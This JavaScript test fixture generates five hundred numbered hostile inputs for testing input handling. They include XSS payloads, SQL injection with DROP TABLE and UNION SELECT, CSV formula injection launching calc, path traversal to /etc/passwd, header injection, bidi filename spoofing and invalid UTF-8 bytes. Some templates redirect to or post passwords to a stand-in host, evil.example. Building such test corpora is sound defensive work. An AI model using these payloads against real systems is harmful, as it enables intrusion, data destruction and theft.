// Five hundred texts that somebody who means harm could send: script, SQL, formulas, letters that turn around, bytes that are no
// text.  Each carries a number, so that it is found again.  Values: strings, or Buffers that are not UTF-8.

const SHAPES = [
	(n) => `<script>window.hurt=${n}</script>`,
	(n) => `<img src=x onerror=window.hurt=${n}>`,
	(n) => `<svg/onload=window.hurt=${n}>`,
	(n) => `"><iframe srcdoc="<script>top.hurt=${n}</script>"></iframe>`,
	(n) => `'-alert(${n})-'`,
	(n) => `javascript:alert(${n})`,
	(n) => `<a href="javascript:window.hurt=${n}">x</a>`,
	(n) => `{{constructor.constructor('window.hurt=${n}')()}}`,
	(n) => "${window.hurt=" + n + "}",
	(n) => `</textarea><script>window.hurt=${n}</script>`,
	(n) => `</title><script>window.hurt=${n}</script>`,
	(n) => `<style>*{display:none}</style>${n}`,
	(n) => `<meta http-equiv=refresh content=0;url=https://evil.example/${n}>`,
	(n) => `<base href=https://evil.example/${n}>`,
	(n) => `<form action=https://evil.example/${n}><input name=password>`,
	(n) => `<math><mtext><mglyph><style><img src=x onerror=window.hurt=${n}>`,
	(n) => `&lt;script&gt;${n}&amp;#x3c;`,
	(n) => `\\u003cscript\\u003e${n}`,
	(n) => `x' OR '1'='1' -- ${n}`,
	(n) => `'); DROP TABLE message; -- ${n}`,
	(n) => `" UNION SELECT phone FROM contact_point -- ${n}`,
	(n) => `%27%20OR%201=1 ${n}`,
	(n) => `=cmd|' /C calc'!A${n}`,
	(n) => `+1+${n}`,
	(n) => `-2+3+${n}`,
	(n) => `@SUM(${n})`,
	(n) => `\t=HYPERLINK("https://evil.example/${n}")`,
	(n) => `a\u202Etxt.exe ${n}`,
	(n) => `\u2066\u2067\u2068 ${n} \u2069`,
	(n) => `\u202D\u202E\u202A ${n}`,
	(n) => `שלום مرحبا ${n} abc`,
	(n) => `\u200F\u200E ${n} \u061C`,
	(n) => `zero\u200Bwidth\uFEFF ${n}`,
	(n) => `e${"\u0301".repeat(80)} ${n}`,
	(n) => `nul\u0000inside ${n}`,
	(n) => `\u0001\u0002\u0007\u001b[31m ${n} \u007f`,
	(n) => `line\r\nSet-Cookie: a=${n}`,
	(n) => `\u2028\u2029 ${n}`,
	(n) => "a".repeat(1600 - String(n).length) + n,
	(n) => "م".repeat(700) + n,
	(n) => "👩‍👩‍👧‍👦".repeat(20) + n,
	(n) => `../../../../etc/passwd ${n}`,
	(n) => `%00%0a%0d ${n}`,
	(n) => `{"ref":"12345670","n":${n}}`,
	(n) => `]]><!-- ${n} -->`,
	(n) => Buffer.concat([Buffer.from([0xff, 0xfe, 0xc0, 0xaf]), Buffer.from(` ${n}`)]),
	(n) => Buffer.concat([Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(` ${n} `), Buffer.from([0xe2, 0x82])]),
	(n) => Buffer.concat([Buffer.from("caf"), Buffer.from([0xe9]), Buffer.from(` <b>${n}</b>`)]),
	(n) => `%s%n%x ${n}`,
	(n) => `\\x00'"\`;|&$() ${n}`,
];

export const HOSTILE = Array.from({ length: 500 }, (_, i) => ({ n: 70000 + i, text: SHAPES[i % SHAPES.length](70000 + i) }));

/** The form's value: every byte escaped. */
export function escaped(text) {
	return [...(Buffer.isBuffer(text) ? text : Buffer.from(text, "utf8"))]
		.map((byte) => "%" + byte.toString(16).padStart(2, "0"))
		.join("");
}
